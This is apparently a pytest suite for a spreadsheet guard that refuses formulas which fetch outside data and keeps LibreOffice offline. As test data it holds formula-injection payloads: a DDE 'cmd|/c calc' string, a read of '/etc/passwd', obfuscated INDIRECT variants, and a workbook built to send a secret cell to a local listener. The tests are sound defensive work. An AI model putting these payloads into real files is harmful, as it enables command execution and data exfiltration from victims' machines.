"""A file from outside makes no engine fetch anything: its formulas are refused wherever they stand, and LibreOffice has no network."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from attacks import Attack, in_sheet, replacing_in, with_part
from listener import Listener
from network import network
from openpyxl.comments import Comment
from tampering import rewrite

from workbook.check import prove
from workbook.engines import available, libreoffice, recalculate
from workbook.files import replacing
from workbook.foreign import check_asks, fetched_by
from workbook.guard import FileError, guard, printable
from workbook.limits import memory_limited
from workbook.writer import write

SHEET = "xl/worksheets/sheet2.xml"

FETCHING = {
    'INDIRECT("A1")': "INDIRECT",
    "indirect (A1)": "INDIRECT",
    "LET(f,INDIRECT,f(A1))": "INDIRECT",
    '_xlfn.WEBSERVICE("http://a.example")': "WEBSERVICE",
    "COM.MICROSOFT.WEBSERVICE(A1)": "WEBSERVICE",
    '_xlfn.FILTERXML(A1,"//a")': "FILTERXML",
    'DDE("soffice","a.ods","A1")': "DDE",
    'RTD("a",,"b")': "RTD",
    '_xlfn.IMAGE("a.png")': "IMAGE",
    'CUBEVALUE("a")': "CUBEVALUE",
    "[1]Sheet1!A1": "another file",
    "SUM([1]Sheet1!A1:B2)": "another file",
    "[1]!name": "another file",
    "'[other.xlsx]Sheet 1'!A1": "another file",
    r"'C:\a\[other.xlsx]Sheet'!A1": "another file",
    "'file:///etc/passwd'#$a.A1": "another file",
    "cmd|'/c calc'!A0": "another file",
    "cmd|x!A0": r"\|",
    "a#$b.A1": r"#\$",
    'A1&"http://a.example"': "://",
}
HARMLESS = (
    "SUM(Table1[Age])",
    "Table1[[#This Row],[1]]*2",
    "[@Age]*2",
    "'Sheet 1:Sheet 3'!A1",
    'HYPERLINK("https://a.example","a link")',
    "HYPERLINK(\"#'Step 1'!A1\",A1)",
    '"a|b #$ [1]x!A1 INDIRECT("&A1',
    "RTD!A1+IMAGE!B2",
    "SUM(A1#)",
    "{1,2;3,4}",
    "A1<>B1",
)


@pytest.fixture
def path(tmp_path: Path) -> Path:
    path = tmp_path / "file.xlsx"
    write(network(), path)
    return path


def xml(text: str) -> bytes:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").encode()


def in_cell(formula: bytes, attributes: bytes = b"") -> Attack:
    return in_sheet(b'<row r="999"><c r="D999"><f%s>%s</f><v>1</v></c></row>' % (attributes, formula))


@pytest.mark.parametrize("formula", FETCHING)
def test_a_formula_that_fetches_is_refused_before_an_engine_sees_it(formula: str, path: Path) -> None:
    in_cell(xml(formula))(path)
    with pytest.raises(FileError, match=rf"file\.xlsx: [^!]+!D999: the formula reads .*\({FETCHING[formula]}\)"):
        prove(path)


def test_what_does_not_fetch_is_calculated(path: Path) -> None:
    assert [formula for formula in HARMLESS if fetched_by(formula)] == []
    check_asks(path)


PLACES: dict[str, tuple[Attack, str]] = {
    "a shared formula": (in_cell(b"INDIRECT(A1)", b' t="shared" ref="D999:D1000" si="5"'), "!D999: "),
    "an entity": (in_cell(b"&#73;NDIRECT(A1)"), "!D999: "),
    "a section": (in_cell(b"IND<![CDATA[IRECT]]>(A1)"), "!D999: "),
    "a comment": (in_cell(b"IND<!-- -->IRECT(A1)"), "!D999: "),
    "another space of names": (
        in_sheet(b'<x:row r="999"><x:c r="D999"><x:f>INDIRECT(A1)</x:f></x:c></x:row>'),
        "!D999: |damaged",
    ),
    "a name": (
        replacing_in(
            "xl/workbook.xml", b"</definedNames>", b'<definedName name="q">INDIRECT("A1")</definedName></definedNames>'
        ),
        "the name q",
    ),
    "a conditional format": (
        replacing_in(
            SHEET,
            b"</sheetData>",
            b'</sheetData><conditionalFormatting sqref="B2:C9"><cfRule type="expression" priority="1">'
            b"<formula>INDIRECT(A1)</formula></cfRule></conditionalFormatting>",
        ),
        r"!B2:C9 \(conditional format\)",
    ),
    "a scale of colours": (
        replacing_in(
            SHEET,
            b"</sheetData>",
            b'</sheetData><conditionalFormatting sqref="B2"><cfRule type="colorScale" priority="1"><colorScale>'
            b'<cfvo type="formula" val="INDIRECT(A1)"/></colorScale></cfRule></conditionalFormatting>',
        ),
        r"!B2 \(conditional format\)",
    ),
    "a validation": (
        replacing_in(
            SHEET,
            b"</sheetData>",
            b'</sheetData><dataValidations><dataValidation type="list" sqref="C3"><formula1>INDIRECT(A1)</formula1>'
            b"</dataValidation></dataValidations>",
        ),
        r"!C3 \(validation\)",
    ),
    "a chart": (
        with_part("xl/charts/chart9.xml", b'<c:chart xmlns:c="c"><c:f>[1]Sheet1!A1</c:f></c:chart>'),
        "xl/charts/chart9.xml",
    ),
    "a shape": (with_part("xl/drawings/drawing9.xml", b'<sp textlink="[1]Sheet1!A1"/>'), "xl/drawings/drawing9.xml"),
    "a control": (with_part("xl/ctrlProps/c1.xml", b'<formControlPr fmlaLink="INDIRECT(A1)"/>'), "xl/ctrlProps/c1.xml"),
    "a table": (
        with_part("xl/tables/t.xml", b"<table><calculatedColumnFormula>INDIRECT(A1)</calculatedColumnFormula></table>"),
        "xl/tables/t.xml",
    ),
    "a part with another ending": (with_part("xl/sheets/a.dat", b"<c><f>INDIRECT(A1)</f></c>"), "xl/sheets/a.dat"),
    "connections": (with_part("xl/connections.xml", b"<connections/>"), "xl/connections.xml"),
    "a query": (with_part("xl/queryTables/q.xml", b"<queryTable/>"), "xl/queryTables/q.xml"),
    "macros": (with_part("xl/vbaProject.bin", b"x"), "xl/vbaProject.bin"),
    "an object": (with_part("xl/embeddings/o.bin", b"x"), "xl/embeddings/o.bin"),
    "a picture that is called a link": (
        lambda path: [
            with_part("xl/drawings/drawing9.xml", b'<a:blip xmlns:a="a" xmlns:r="r" r:link="rId1"/>')(path),
            with_part(
                "xl/drawings/_rels/drawing9.xml.rels",
                b'<Relationships><Relationship Id="rId1" Type="http://x/hyperlink" Target="http://a.example/x.png" '
                b'TargetMode="External"/></Relationships>',
            )(path),
        ],
        "xl/drawings/drawing9.xml: it shows",
    ),
}


@pytest.mark.parametrize("place", PLACES)
def test_wherever_it_stands(place: str, path: Path) -> None:
    attack, says = PLACES[place]
    attack(path)
    with pytest.raises(FileError, match=says) as refused:
        prove(path)
    assert "\n" not in str(refused.value)


@pytest.mark.parametrize(
    "formula, says",
    [
        (in_cell(b"1", b' t="array" ref="A1:XFD1048576"'), "D999: an array formula fills 17,179,869,184 cells"),
        (in_cell(b"1", b' t="dataTable" ref="A1:A200000" r1="B1"'), "D999: an array formula fills 200,000 cells"),
        (in_cell(b'REPT("x",30000)'), "D999: REPT repeats more than 1,000 times"),
        (in_cell(b'REPT("x", (3e4))'), "D999: REPT repeats more than 1,000 times"),
    ],
)
def test_what_is_made_has_a_measure(formula: Attack, says: str, path: Path) -> None:
    formula(path)
    with pytest.raises(FileError, match=says):
        prove(path)


def test_a_part_is_judged_by_what_it_holds_and_not_by_its_name(path: Path) -> None:
    with_part("xl/media/a.png", b'<!DOCTYPE l [<!ENTITY a "ha">]><l/>')(path)
    with pytest.raises(FileError, match="defines entities"):
        guard(path)


def test_a_sign_that_is_not_seen_is_printed_as_what_it_is() -> None:
    assert printable("a\u202eb\x1b[2J\u200b\x9b\n") == r"a\u202eb\u001b[2J\u200b\u009b\u000a"
    assert printable("Größe 表　é, ∂L/∂w") == "Größe 表　é, ∂L/∂w"


# ---------------------------------------------------------------------------------------------- a listener


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@contextmanager
def office(monkeypatch: pytest.MonkeyPatch, network: bool, proxy: bool) -> Iterator[None]:
    """Start LibreOffice anew, with or without what keeps it from the network."""
    if (reason := available("libreoffice")) is not None:
        if os.environ.get("WORKBOOK_REQUIRE_LIBREOFFICE") == "1":
            pytest.fail(reason)
        pytest.skip(reason)
    with monkeypatch.context() as patch:
        libreoffice._shared.close()
        libreoffice.without_network.cache_clear()
        if network:
            patch.setattr(libreoffice, "NO_NETWORK", ())
        if not proxy:
            kept = tuple(setting for setting in libreoffice._SETTINGS if "Inet" not in setting[0])
            patch.setattr(libreoffice, "_SETTINGS", kept)
        try:
            yield
        finally:
            libreoffice._shared.close()
            libreoffice.without_network.cache_clear()


def sending(path: Path, port: int) -> Path:
    """Write a file whose formula asks a port of this machine for another file, and says there what this one holds."""
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet("A")
        sheet.write("B1", "secret")
        sheet.write_formula("A1", f'=INDIRECT("\'http://127.0.0.1:{port}/"&B1&".csv\'#$a.A1")', None, 0)
    syntax = (
        b'<extLst><ext xmlns:loext="http://schemas.libreoffice.org/" uri="{7626C862-2A13-11E5-B345-FEFF819CDC9F}">'
        b'<loext:extCalcPr stringRefSyntax="CalcA1"/></ext></extLst></workbook>'
    )
    return rewrite(path, lambda name, xml: xml.replace(b"</workbook>", syntax) if name == "xl/workbook.xml" else xml)


def test_nothing_is_heard_of_a_file_that_sends(
    tmp_path: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = sending(tmp_path / "sending.xlsx", listener.server_port)
    taken_away, proxied = (False, False), (True, True)
    for has_network, has_proxy in (taken_away, proxied) if libreoffice.without_network() else (proxied,):
        with office(monkeypatch, has_network, has_proxy):  # each by itself is enough
            libreoffice.recalculate(path, {})
        assert listener.heard == []
    with pytest.raises(FileError, match=re.escape("A!A1: the formula reads what lies outside the file (INDIRECT)")):
        prove(path, engine="libreoffice")
    assert listener.heard == []
    with office(monkeypatch, network=True, proxy=False):
        libreoffice.recalculate(path, {})
    assert "/secret.csv" in listener.heard, "the file would have sent, had it been let"


def test_a_file_with_notes_that_openpyxl_saved_is_checked(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active["A1"], book.active["A2"] = 1, "=A1*2"
    book.active["A1"].comment = Comment("a note", "somebody")
    book.save(tmp_path / "note.xlsx")
    assert recalculate(tmp_path / "note.xlsx")["Sheet"][1, 0] == 2.0


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="memory is limited where the system tells of it")
def test_a_file_that_asks_for_more_memory_is_refused_in_one_line() -> None:
    with (
        pytest.raises(FileError, match=r"^a\.xlsx: more than 500 MB of memory would be needed for it; [^\n]+$"),
        memory_limited("a.xlsx"),
    ):
        bytearray(10**9)
    assert bytearray(10**9), "the limit is gone with the file"


@pytest.mark.skipif(sys.platform == "win32", reason="what was abandoned stays on Windows")
def test_what_a_killed_process_has_left_goes_with_the_next_build(tmp_path: Path) -> None:
    target = tmp_path / "file.xlsx"
    script = (
        "import os, sys; from pathlib import Path; from workbook.files import replacing\n"
        "with replacing(Path(sys.argv[1])): os.kill(os.getpid(), 9)"
    )
    subprocess.run([sys.executable, "-c", script, str(target)], check=False)
    assert [path.suffix for path in tmp_path.iterdir()] == [".tmp"]
    with replacing(target) as first, replacing(target) as second:
        assert set(tmp_path.iterdir()) == {first, second}, "what is abandoned is gone, what is being written stays"
        first.write_text("1")
        second.write_text("2")
    assert list(tmp_path.iterdir()) == [target] and target.read_text() == "1"
